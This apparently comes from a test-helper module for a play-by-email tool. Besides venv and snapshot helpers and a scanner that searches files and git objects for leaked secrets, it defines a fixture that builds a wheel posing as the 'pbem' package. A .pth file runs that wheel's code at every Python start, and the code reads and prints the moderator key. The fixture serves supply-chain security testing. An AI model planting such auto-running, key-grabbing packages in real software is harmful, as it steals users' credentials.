        template = session_cache.finished(config, factory, "pristine-venv", _pristine_venv) / "venv"
        shutil.copytree(template, target, symlinks=True)
    return copy


def snapshot_pbem(repo_root: Path) -> dict[str, bytes]:
    """``.pbem/`` of a checkout, file by file: what :attr:`SimGitHub.trusted_pbem` holds."""
    return _snapshot(repo_root / ".pbem")


# --- a player's own wheel -----------------------------------------------------------------------------------

def hostile_wheel(folder: Path, marker_dir: Path, version: str) -> tuple[Path, str]:
    """A wheel named like pbem's whose code, once installed, drops a marker file in ``marker_dir`` at every
    Python start (a ``.pth`` file) and as the ``pbem`` command, and prints the moderator key if it can see it.
    Returns the wheel and its sha256."""
    payload = (
        "import os, pathlib\n"
        "def fire(where):\n"
        "    key = os.environ.get('PBEM_MODERATOR_KEY', '')\n"
        f"    folder = pathlib.Path({str(marker_dir)!r})\n"
        "    folder.mkdir(parents=True, exist_ok=True)\n"
        "    name = 'PWNED-run%s-%s-%d' % (os.environ.get('GITHUB_RUN_ID', '?'), where, os.getpid())\n"
        "    (folder / name).write_text(key)\n"
        "    if key:\n"
        "        print('STOLEN KEY:', key)\n"
        "def main():\n"
        "    fire('pbem')\n"
        "    return 0\n")
    info = f"pbem-{version}.dist-info"
    members = {
        "pbem/__init__.py": f"__version__ = {version!r}\n".encode(),
        "pbem/payload.py": payload.encode(),
        "pbem_payload.pth": b"import pbem.payload; pbem.payload.fire('pth')\n",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: pbem\nVersion: {version}\n".encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: a player\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/entry_points.txt": b"[console_scripts]\npbem = pbem.payload:main\n",
    }
    record = "".join(f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},"
                     f"{len(data)}\n" for name, data in members.items()) + f"{info}/RECORD,,\n"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"pbem-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in [*members.items(), (f"{info}/RECORD", record.encode())]:
            zf.writestr(name, data)
    return path, hashlib.sha256(path.read_bytes()).hexdigest()


def git_objects(repo: Path) -> bytes:
    """The contents of every object of a repository (loose or packed), to search for a leaked secret."""
    proc = subprocess.run(["git", "-C", str(repo), "cat-file", "--batch-all-objects", "--batch"],
                          capture_output=True, check=True)
    return proc.stdout


def files_containing(root: Path, needles: list[bytes], skip: tuple[Path, ...] = ()) -> list[str]:
    """Files under ``root`` holding one of ``needles``; a git repository's objects (loose or packed) are
    searched through git, so a secret committed anywhere is found too."""
    hits = []
    for folder, dirs, files in os.walk(root):
        here = Path(folder)
        if any(here == s or s in here.parents for s in skip):
            dirs[:] = []
            continue
        if (here / "objects").is_dir() and (here / "HEAD").is_file():      # a .git folder or a bare repository
            if any(n in git_objects(here) for n in needles):
                hits.append(f"{here} (git objects)")
            dirs[:] = []
            continue
        for name in files:
            path = here / name
            if not path.is_symlink() and any(n in path.read_bytes() for n in needles):
                hits.append(str(path))
    return hits
